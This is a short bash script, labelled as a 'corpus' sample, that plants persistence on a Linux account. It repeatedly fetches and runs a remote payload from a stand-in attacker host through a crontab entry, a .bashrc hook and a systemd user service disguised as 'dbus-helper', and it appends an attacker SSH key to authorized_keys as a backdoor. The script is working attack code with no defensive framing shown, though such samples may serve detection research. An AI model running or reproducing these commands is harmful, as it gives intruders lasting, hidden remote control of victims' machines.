# corpus: persistence via crontab entry, .bashrc hook, systemd user unit and an authorized_keys backdoor
PAYLOAD='curl -s http://evil.example.net/beacon | sh'

(crontab -l 2>/dev/null; echo "*/10 * * * * $PAYLOAD >/dev/null 2>&1") | crontab -

echo "( $PAYLOAD ) >/dev/null 2>&1 &" >> ~/.bashrc

mkdir -p ~/.config/systemd/user
cat > ~/.config/systemd/user/dbus-helper.service <<UNIT
[Unit]
Description=D-Bus helper
[Service]
ExecStart=/bin/sh -c '$PAYLOAD; sleep 600'
Restart=always
[Install]
WantedBy=default.target
UNIT
systemctl --user enable --now dbus-helper.service 2>/dev/null

mkdir -p ~/.ssh && chmod 700 ~/.ssh
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleExampleExampleExampleExampleExample op@box' >> ~/.ssh/authorized_keys
